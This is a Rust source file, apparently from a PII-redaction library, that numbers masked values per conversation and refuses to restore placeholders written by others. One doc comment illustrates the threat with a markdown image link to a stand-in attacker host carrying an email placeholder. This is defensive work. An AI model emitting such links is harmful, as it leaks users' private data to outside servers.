//! The numbers and values of a conversation, which goes on over several requests and answers.

use alloc::collections::BTreeMap;
use alloc::string::String;
use alloc::sync::Arc;
use alloc::vec::Vec;
use core::ops::Bound;

use super::numbering::Numbering;
use super::placeholder;
use crate::Kind;
use crate::lock::Lock;

/// What the redactors and restorers of one conversation share: the numbers that values were given, and
/// the values that a [`Restorer`](super::Restorer) turns placeholders back into. Cloning it shares it.
///
/// It remembers [`Limits::entities`](crate::Limits::entities) values, as [`Numbering`] does.
///
/// A placeholder that is [reserved](Self::reserve) was written by somebody else, who may want it turned back where the
/// value is seen (`![](https://evil.example/?q=[EMAIL_1])`): it stands for no value from there on.
#[derive(Clone, Debug, Default)]
pub struct Conversation(Arc<Lock<State>>);

#[derive(Debug, Default)]
struct State {
    numbering: Numbering,
    /// By their placeholders.
    values: BTreeMap<String, String>,
    bytes: usize,
    /// The kinds and numbers that somebody else wrote, in order.
    foreign: Vec<(Option<Kind>, u32)>,
}

impl State {
    /// Past so many placeholders of somebody else no value is kept any more: it could have one of them.
    const FOREIGN: usize = 4096;

    fn reserve(&mut self, text: &str) {
        for (whole, kind, number) in numbered(text) {
            self.numbering.reserve(kind, number);
            if self.foreign.len() < Self::FOREIGN
                && let Err(at) = self.foreign.binary_search(&(kind, number))
            {
                self.foreign.insert(at, (kind, number));
            }
            if let Some(value) = self.values.remove(whole) {
                self.bytes -= whole.len() + value.len();
            }
        }
    }

    fn keep(&mut self, kind: Option<Kind>, number: u32, value: &str) {
        // It may have been reserved since the value got it.
        if self.foreign.len() >= Self::FOREIGN || self.is_foreign(kind, number) {
            return;
        }
        let mut placeholder = String::new();
        placeholder::write(kind, Some(number), &mut placeholder);
        if !self.values.contains_key(&placeholder) {
            self.bytes += placeholder.len() + value.len();
            self.values.insert(placeholder, value.into());
        }
    }

    fn is_foreign(&self, kind: Option<Kind>, number: u32) -> bool {
        self.foreign.binary_search(&(kind, number)).is_ok()
    }
}

impl Conversation {
    /// One that goes on with these numbers.
    pub(super) fn of(numbering: Numbering) -> Self {
        Self(Arc::new(Lock::new(State {
            numbering,
            ..State::default()
        })))
    }

    /// Whether no placeholder can be turned back.
    pub fn is_empty(&self) -> bool {
        self.0.with(|state| state.values.is_empty())
    }

    /// Bytes of the values, placeholders, numbers and names that it holds.
    pub fn bytes(&self) -> usize {
        self.0.with(|state| {
            let foreign = state.foreign.len() * size_of::<(Option<Kind>, u32)>();
            state.bytes + foreign + state.numbering.bytes()
        })
    }

    /// Turns no placeholder that stands in `text` back from here on, and gives none to a value that is to be
    /// turned back: they were written by somebody else. A value that had one gets another. To be called with all
    /// that goes out, before it is masked. The text may be JSON, also within a string of JSON, in which characters stand in code
    /// (`\\u005bEMAIL_1]`).
    pub fn reserve(&self, text: &str) {
        self.0.with(|state| state.reserve(text));
        if text.contains("\\u") {
            let text = uncoded(text);
            self.0.with(|state| state.reserve(&text));
        }
    }

    /// The numbers.
    pub(super) fn into_numbering(self) -> Numbering {
        match Arc::try_unwrap(self.0) {
            Ok(state) => state.into_inner().numbering,
            Err(shared) => shared.with(|state| state.numbering.clone()),
        }
    }

    /// The number of a value, given to it now where it has none; `None` past the limit. One that is to be `kept` gets
    /// another where somebody else wrote its own.
    pub(super) fn number(
        &self,
        kind: Option<Kind>,
        value: &str,
        limit: usize,
        kept: bool,
    ) -> Option<u32> {
        self.0.with(|state| {
            loop {
                let number = state.numbering.number(kind, value, limit)?;
                if !(kept && state.is_foreign(kind, number)) {
                    return Some(number);
                }
                state.numbering.forget(kind, value);
            }
        })
    }

    /// Notes what a name that was masked may be shortened to.
    pub(super) fn name(&self, kind: Kind, value: &str, limit: usize) {
        self.0
            .with(|state| state.numbering.name(kind, value, limit));
    }

    /// The kind of the name that was masked and goes by this one word.
    pub(super) fn kind_of(&self, word: &str) -> Option<Kind> {
        self.0.with(|state| state.numbering.kind_of(word))
    }

    /// Keeps the value that has a number. The first way in which it was written stays.
    pub(super) fn keep(&self, kind: Option<Kind>, number: u32, value: &str) {
        self.0.with(|state| state.keep(kind, number, value));
    }

    /// Hands the value to `found`, where there is one.
    pub(super) fn value(&self, placeholder: &str, found: impl FnOnce(&str)) -> bool {
        self.0.with(|state| {
            let value = state.values.get(placeholder);
            value.map(|value| found(value)).is_some()
        })
    }

    /// Whether a placeholder that can be turned back begins so.
    pub(super) fn begins(&self, with: &str) -> bool {
        self.0.with(|state| {
            let from = (Bound::Included(with), Bound::Unbounded);
            let first = state.values.range::<str, _>(from).next();
            first.is_some_and(|(found, _)| found.starts_with(with))
        })
    }
}

/// The numbered placeholders in `text` that a value may have: each whole, its kind, its number.
fn numbered(text: &str) -> impl Iterator<Item = (&str, Option<Kind>, u32)> {
    placeholder::all(text).filter_map(|(whole, name, number)| {
        let mut kinds = Kind::ALL.into_iter();
        let kind = kinds.find(|kind| placeholder::names(*kind, name));
        let known = kind.is_some() || name == placeholder::UNDECIDED;
        known.then_some((whole, kind, number))
    })
}

/// The text with each `\u005b` as its character, as far as one code says it, and however often it was coded.
fn uncoded(text: &str) -> String {
    let mut parts = text.split("\\u");
    let mut plain = String::from(parts.next().unwrap_or_default());
    for part in parts {
        let code = part
            .get(..4)
            .and_then(|code| u32::from_str_radix(code, 16).ok());
        match code.and_then(char::from_u32) {
            Some(c) => {
                let said = plain.trim_end_matches('\\').len();
                plain.truncate(said);
                plain.push(c);
                plain.push_str(&part[4..]);
            }
            None => plain.push_str(part),
        }
    }
    plain
}
